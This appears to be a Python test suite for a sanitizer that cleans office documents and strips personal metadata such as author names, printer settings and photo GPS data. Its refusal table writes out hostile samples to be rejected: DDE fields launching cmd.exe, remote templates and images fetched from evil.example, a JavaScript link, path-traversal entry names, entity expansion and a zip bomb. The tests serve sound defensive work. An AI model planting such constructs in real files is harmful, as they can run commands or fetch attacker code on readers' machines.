from io import BytesIO
from zipfile import ZipFile

import pytest

from documents import office
from documents.office import OfficeRefused, cleaned_office
from tests.images import nasty

from .making import docx_parts, odt_parts, relationships, xlsx_parts, zip_bytes


def cleaned(parts: dict) -> dict[str, bytes]:
    _kind, plain = cleaned_office(zip_bytes(parts), "Patient <form>")
    with ZipFile(BytesIO(plain)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f"<w:p>{runs}</w:p>"


def external(kind: str, target: str) -> dict:
    lines = relationships(("rId1", kind, target), external="rId1")
    return docx_parts(**{"word/_rels/document.xml.rels": lines})


def content_types(of: str) -> str:
    return f'<Types><Override ContentType="{of}"/></Types>'


MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
REFUSED = {
    "docm": (docx_parts(**{"[Content_Types].xml": content_types(MACROS)}), "macros"),
    "macros in a docx": (docx_parts(**{"word/vbaProject.bin": b"x"}), "macros"),
    "ActiveX": (docx_parts(**{"word/activeX/activeX1.xml": "<x/>"}), "macros"),
    "a macro sheet": (xlsx_parts(**{"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
    "Basic in an ODT": (odt_parts(**{"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
    "Python in an ODT": (odt_parts(**{"Scripts/python/run.py": "x"}), "macros"),
    "an event in an ODT": (odt_parts('<script:event-listener script:language="x"/>'), "macros"),
    "a file within": (docx_parts(**{"word/embeddings/sheet.xlsx": b"PK"}), "files_within"),
    "an old file within": (docx_parts(**{"word/x.dat": b"\xd0\xcf\x11\xe0"}), "files_within"),
    "a chunk of another format": (docx_parts(**{"word/afchunk.mht": b"x"}), "files_within"),
    "an object in an ODT": (
        odt_parts(**{"META-INF/manifest.xml": "application/vnd.sun.star.oleobject"}),
        "files_within",
    ),
    "a template elsewhere": (
        external("attachedTemplate", "https://evil.example/a.dotm"),
        "loaded",
    ),
    "a picture elsewhere": (external("image", "https://evil.example/a.png"), "loaded"),
    "a link to a disk": (external("hyperlink", "file://evil.example/a"), "loaded"),
    "a link that is a script": (external("hyperlink", " JavaScript:alert(1)"), "loaded"),
    "DDE": (docx_parts(field('DDEAUTO c:\\\\cmd.exe "/k calc"')), "loaded"),
    "DDE in pieces": (docx_parts(field("DD", "EAU", "TO cmd")), "loaded"),
    "DDE in entities": (docx_parts(field("&#68;&#68;E cmd")), "loaded"),
    "DDE in a simple field": (docx_parts('<w:fldSimple w:instr="DDE cmd"/>'), "loaded"),
    "another workbook": (xlsx_parts(**{"xl/externalLinks/externalLink1.xml": "<x/>"}), "loaded"),
    "a database": (xlsx_parts(**{"xl/connections.xml": "<x/>"}), "loaded"),
    "a formula that asks the web": (
        xlsx_parts(**{"xl/worksheets/sheet1.xml": '<f>_xlfn.WEBSERVICE("https://a")</f>'}),
        "loaded",
    ),
    "a picture elsewhere in an ODT": (
        odt_parts('<draw:image xlink:href="https://evil.example/a.png"/>'),
        "loaded",
    ),
    "DDE in an ODS": (odt_parts("<table:dde-link/>", kind="ods"), "loaded"),
    "comments": (docx_parts(**{"word/comments.xml": "<x/>"}), "notes"),
    "tracked changes": (docx_parts('<w:ins w:author="Maria Secret"/>'), "notes"),
    "notes in a table": (xlsx_parts(**{"xl/comments1.xml": "<x/>"}), "notes"),
    "notes in an ODT": (odt_parts("<office:annotation >"), "notes"),
    "slides": ({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<x/>"}, "slides"),
    "an archive": ({"readme.txt": "Hello"}, "unknown"),
    "a program for Java": ({"META-INF/MANIFEST.MF": "x", "A.class": b"x"}, "unknown"),
    "a name that climbs": (docx_parts(**{"../../etc/cron.d/x": "x"}), "damaged"),
    "a name from the root": (docx_parts(**{"/etc/x": "x"}), "damaged"),
    "a name with backslashes": (docx_parts(**{"word\\..\\x": "x"}), "damaged"),
    "a part twice": (docx_parts(**{"WORD/document.xml": "x"}), "damaged"),
    "a billion laughs": (
        docx_parts(**{"word/x.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
        "damaged",
    ),
    "UTF-16": (docx_parts(**{"word/x.xml": "<x/>".encode("utf-16")}), "damaged"),
    "relationships that are no XML": (docx_parts(**{"word/_rels/a.rels": "<a"}), "damaged"),
    "relationships nested deep": (
        docx_parts(**{"word/_rels/a.rels": "<a>" * 5000 + "</a>" * 5000}),
        "damaged",
    ),
    "relationships without end": (
        docx_parts(**{"word/_rels/a.rels": " " * (office.MOST_BYTES_OF_RELATIONSHIPS + 1)}),
        "too_large",
    ),
    "many parts": ({f"{number}": "" for number in range(office.MOST_PARTS + 1)}, "too_large"),
    "an ODT with a password": (
        odt_parts(**{"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
        "encrypted",
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_could_harm_readers_or_tell_of_people_is_refused(name):
    parts, reason = REFUSED[name]
    with pytest.raises(OfficeRefused, match=reason):
        cleaned_office(zip_bytes(parts), "Form")


def test_a_bomb_is_refused_before_it_is_unfolded():
    bomb = zip_bytes(docx_parts(**{"word/media/x.png": bytes(office.MOST_BYTES + 1)}))
    assert len(bomb) < 100_000
    with pytest.raises(OfficeRefused, match="too_large"):
        cleaned_office(bomb, "Form")


def test_more_text_than_can_be_looked_through_is_refused():
    long = docx_parts("<w:p/>" * (office.MOST_BYTES_OF_XML // 6))
    with pytest.raises(OfficeRefused, match="too_large"):
        cleaned_office(zip_bytes(long), "Form")


@pytest.mark.parametrize("cut", [30, -40])
def test_a_damaged_archive_is_refused(cut):
    with pytest.raises(OfficeRefused, match="damaged"):
        cleaned_office(zip_bytes(docx_parts())[:cut], "Form")


@pytest.mark.parametrize(
    ("parts", "kind"),
    [
        (docx_parts(), "docx"),
        (xlsx_parts(), "xlsx"),
        (odt_parts(), "odt"),
        (odt_parts(kind="ods"), "ods"),
    ],
)
def test_a_plain_file_is_taken_and_tells_nobodys_name(parts, kind):
    assert cleaned_office(zip_bytes(parts), "Form")[0] == kind
    plain = cleaned(parts)
    assert not any(b"Secret" in part for part in plain.values())
    title = next(part for name, part in plain.items() if name in ("docProps/core.xml", "meta.xml"))
    assert b"Patient &lt;form&gt;" in title
    assert not any("thumbnail" in name.lower() for name in plain)
    assert not any(b"humbnail" in part for part in plain.values())


def test_an_opendocument_begins_with_its_type_uncompressed():
    content = cleaned_office(zip_bytes(odt_parts()), "Form")[1]
    assert content[30:].startswith(b"mimetypeapplication/vnd.oasis.opendocument.text")


def test_a_link_may_lead_out_of_a_word_file():
    parts = external("hyperlink", "https://clinic.example/")
    assert b"https://clinic.example/" in cleaned(parts)["word/_rels/document.xml.rels"]


def test_a_workbook_forgets_its_folder_and_printer():
    sheet = '<pageSetup orientation="portrait" r:id="rId1"/>'
    parts = xlsx_parts(
        '<x15ac:absPath url="C:\\Users\\Maria Secret\\"/><fileSharing userName="Maria Secret"/>',
        **{
            "xl/worksheets/sheet1.xml": sheet,
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(
                ("rId1", "printerSettings", "../printerSettings/printerSettings1.bin")
            ),
            "xl/printerSettings/printerSettings1.bin": b"Secret printer",
        },
    )
    plain = cleaned(parts)
    assert not any(b"Secret" in part for part in plain.values())
    assert plain["xl/worksheets/sheet1.xml"] == b'<pageSetup orientation="portrait"/>'
    assert b"printerSettings" not in plain["xl/worksheets/_rels/sheet1.xml.rels"]


def test_a_photo_within_loses_its_place():
    photo = nasty.from_a_phone()
    plain = cleaned(docx_parts(**{"word/media/image1.jpeg": photo}))
    assert b"GPS" in photo or b"Exif" in photo
    assert len(plain["word/media/image1.jpeg"]) < len(photo)
    assert plain["word/media/image1.jpeg"].endswith(b"\xff\xd9")
